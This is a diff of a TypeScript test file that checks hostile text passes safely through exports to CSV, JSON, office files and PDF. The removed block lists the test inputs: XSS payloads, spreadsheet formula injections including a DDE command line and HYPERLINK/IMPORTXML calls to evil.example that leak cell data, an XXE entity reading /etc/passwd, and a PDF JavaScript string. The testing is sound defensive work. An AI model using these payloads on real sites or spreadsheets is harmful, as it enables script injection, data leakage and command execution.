@@ -10,55 +10,10 @@ import { languages } from '#domain/language.ts';
 import { makeCopy } from '#web/pages/copy/make-copy.ts';
 import { openApi, type TestApi } from '../setup/api.ts';
 import { drawingInPlace } from '../setup/drawing-in-place.ts';
+import { hostile, hostileTexts, undrawn } from '../setup/hostile-texts.ts';
 import { hasOffice, officeTurns } from '../setup/viewers.ts';
 import { record } from './store-records.ts';
 
-/** Families F1, F3, F6 and F9 of bad input, as far as the fonts can draw them. */
-const drawn = [
-  '<img src=x onerror=window.__xss=1>',
-  '<script>window.__xss=1</script>',
-  '"><svg onload=window.__xss=1>',
-  'javascript:window.__xss=1',
-  '</text><script>window.__xss=1</script><text>',
-  ']]><script>window.__xss=1</script>',
-  "{{constructor.constructor('window.__xss=1')()}}",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody might type
-  '${window.__xss=1}',
-  '<a href="//evil.example/?c=" target=_blank>x</a>',
-  '--></title><script>window.__xss=1</script>',
-  "<style>@import'//evil.example/x.css'</style>",
-  '&lt;img src=x onerror=window.__xss=1&gt;',
-  'x\u2028window.__xss=1\u2029',
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(1,1)',
-  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  "=cmd|'/C calc'!A0",
-  '\t=1+1',
-  '=IMPORTXML("http://evil.example","//a")',
-  '"=1+1',
-  ';=1+1',
-  '+7 495 123-45-67',
-  'é',
-  'e\u0301',
-  'A\u200bB',
-  '\u202egnp.exe',
-  'a\u0001\u000bz',
-  '中日（青岛）地方发展合作示范区 神奈川県 徳島 髙﨑 𠮷野',
-  'Аоyama',
-  '\\) /JS (app.alert(1)) (',
-  'x'.repeat(300),
-  '長い'.repeat(150),
-  '<!ENTITY e SYSTEM "file:///etc/passwd">',
-  '&#65;&e;',
-] as const;
-/** What no font here has, with the character that the answer names. */
-const undrawn = [
-  ['👨‍👩‍👧‍👦', 'U+1F468', 'zh-CN'],
-  ['شركة 12', 'U+0634', 'ja'],
-  ['\u{13000}', 'U+13000', 'en'],
-] as const;
 /** What a PDF would do by itself. */
 const active = /\/JavaScript|\/OpenAction|\/Launch/;
 /** What XML can't hold is left out of pictures and office files; the rest comes letter for letter. */
@@ -122,12 +77,17 @@ function officeTexts(bytes: Uint8Array, where: string): ReadonlySet<string> {
 
 beforeAll(async () => {
   api = await openApi(undefined, { drawing: drawingInPlace });
-  for (const [index, text] of drawn.entries()) await put(`H${String(index).padStart(2, '0')}`, text, `${(index + 1) * 1_000_000_000}`);
+  for (const [index, text] of hostileTexts.entries())
+    await put(`H${String(index).padStart(2, '0')}`, text, `${(index + 1) * 1_000_000_000}`);
   const profile = await readZone(api.db, 'sample', await currentRevision(api.db));
   if (profile === undefined) throw new Error('no zone');
-  const hostile = words(`${drawn[1]} ${drawn[29]}`, `${drawn[4]} =1+1`, `"><svg onload=x> ${drawn[31]}`);
+  const name = words(
+    `${hostile.markup[1]} ${hostile.letters[5]}`,
+    `${hostile.markup[4]} ${hostile.formulas[0]}`,
+    `${hostile.markup[2]} ${hostile.syntax[0]}`,
+  );
   await writeRevision(api.db, { author: 'a', kind: 'edit', reason: '=1+1', origin: 'sample' }, (trx, revision) =>
-    writeZone(trx, revision, { ...profile, name: hostile, short_name: words('=a/..\\b', '<b>', '"x"') }),
+    writeZone(trx, revision, { ...profile, name, short_name: words('=a/..\\b', '<b>', '"x"') }),
   );
 });
 afterAll(() => api.close());
@@ -146,7 +106,7 @@ describe('every text that reaches an export', () => {
       const csv = strFromU8(await chart('csv'));
       const json = JSON.parse(strFromU8(await chart('json'))) as { rows: Record<string, string | null>[] };
       if (id !== 'pipeline') continue;
-      for (const text of drawn) {
+      for (const text of hostileTexts) {
         expect(
           json.rows.some((row) => row['name'] === text),
           text,
@@ -169,7 +129,7 @@ describe('every text that reaches an export', () => {
     const books = Object.entries(pack).filter(([name]) => /\.(xlsx|pptx)$/.test(name));
     const found = books.map(([name, bytes]) => [name, officeTexts(bytes, name)] as const);
     const workbook = found.find(([name]) => name.endsWith('.xlsx'))?.[1];
-    for (const text of drawn) expect(workbook?.has(kept(text)), text).toBe(true);
+    for (const text of hostileTexts) expect(workbook?.has(kept(text)), text).toBe(true);
   });
 
   test('is text in the copy that is sent as one page', async () => {
